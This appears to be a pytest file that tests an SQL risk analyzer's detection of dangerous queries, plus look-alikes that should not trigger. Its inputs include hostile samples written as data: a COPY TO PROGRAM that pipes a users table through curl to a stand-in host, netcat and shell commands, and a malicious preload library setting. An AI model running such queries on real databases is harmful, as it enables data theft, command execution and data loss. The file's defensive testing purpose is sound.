"""SQL that runs programs, hides a delete, ends sessions, opens access or changes the server."""

from __future__ import annotations

import pytest

from interlock.risk.analyzers import SIGNALS, analyze

UNBOUNDED_DELETE, UNBOUNDED_UPDATE = "sql.delete_without_where", "sql.update_without_where"


def _found(query: str) -> dict[str, str]:
    return {f.signal: f.effect for f in analyze("sql", {"query": query})}


@pytest.mark.parametrize(
    ("query", "signal"),
    [
        ("COPY users TO PROGRAM 'curl -d @- https://x.example'", "sql.run_program"),
        ("copy t from program 'id'", "sql.run_program"),
        ("COPY (SELECT * FROM a) TO PROGRAM 'nc h 1'", "sql.run_program"),
        ("ALTER SYSTEM SET archive_command = 'sh -c x'", "sql.run_program"),
        ("ALTER SYSTEM SET shared_preload_libraries = 'evil'", "sql.run_program"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "sql.merge_delete"),
        ("MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE", UNBOUNDED_DELETE),
        (
            "MERGE t USING s ON t.a = s.a WHEN NOT MATCHED BY SOURCE THEN DELETE;",
            "sql.delete_without_where",
        ),
        (
            "MERGE INTO t USING s ON TRUE WHEN MATCHED THEN UPDATE SET a = 0",
            "sql.update_without_where",
        ),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "sql.terminate_sessions"),
        ("SELECT pg_cancel_backend(42)", "sql.terminate_sessions"),
        ("KILL 53", "sql.terminate_sessions"),
        ("GRANT SELECT ON t TO PUBLIC", "sql.grant_public"),
        ("GRANT EXECUTE ON FUNCTION f() TO public", "sql.grant_public"),
        ("ALTER SYSTEM SET work_mem = '1GB'", "sql.alter_system"),
        ("ALTER SYSTEM RESET ALL", "sql.alter_system"),
        ("SET GLOBAL general_log = 1", "sql.alter_system"),
        ("DELETE FROM t WHERE true", UNBOUNDED_DELETE),
        ("DELETE FROM t WHERE 'a' = 'a'", UNBOUNDED_DELETE),
        ("DELETE FROM t WHERE id = 5 OR 1=1", UNBOUNDED_DELETE),
        ("DELETE FROM t WHERE 2 > 1", UNBOUNDED_DELETE),
        ("DELETE FROM t WHERE 1 IN (1, 2)", UNBOUNDED_DELETE),
        ("UPDATE t SET a = 1 WHERE 1 <> 0", UNBOUNDED_UPDATE),
    ],
)
def test_new_sql_signals(query: str, signal: str) -> None:
    found = analyze("sql", {"query": query})
    assert signal in {f.signal for f in found}, found
    assert all(f.signal in SIGNALS and f.text.strip() for f in found)


@pytest.mark.parametrize(
    "query",
    [
        "COPY t TO STDOUT WITH CSV",
        "COPY t FROM STDIN",
        "SELECT * FROM public.users",
        "SELECT pid, query FROM pg_stat_activity",
        "MERGE INTO s USING d ON s.k = d.k WHEN MATCHED THEN UPDATE SET q = d.q "
        "WHEN NOT MATCHED THEN INSERT (k, q) VALUES (d.k, d.q)",
        "SET statement_timeout = '5s'",
        "SHOW archive_command",
        "SELECT merge_commit, copy_count FROM system_jobs",
        "DELETE FROM t WHERE id IN (SELECT id FROM banned)",
        "UPDATE t SET a = 1 WHERE 1=1 AND id = 4",
        "DELETE FROM t WHERE 1 = 0",
    ],
)
def test_look_alikes_stay_quiet(query: str) -> None:
    found = [f for f in analyze("sql", {"query": query}) if f.effect != "read"]
    assert found == [], found


def test_grant_to_a_role_is_not_public() -> None:
    found = analyze("sql", {"query": "GRANT SELECT ON public.users TO analyst"})
    assert "sql.grant_public" not in {f.signal for f in found}
    assert all("every database user" not in f.text for f in found)
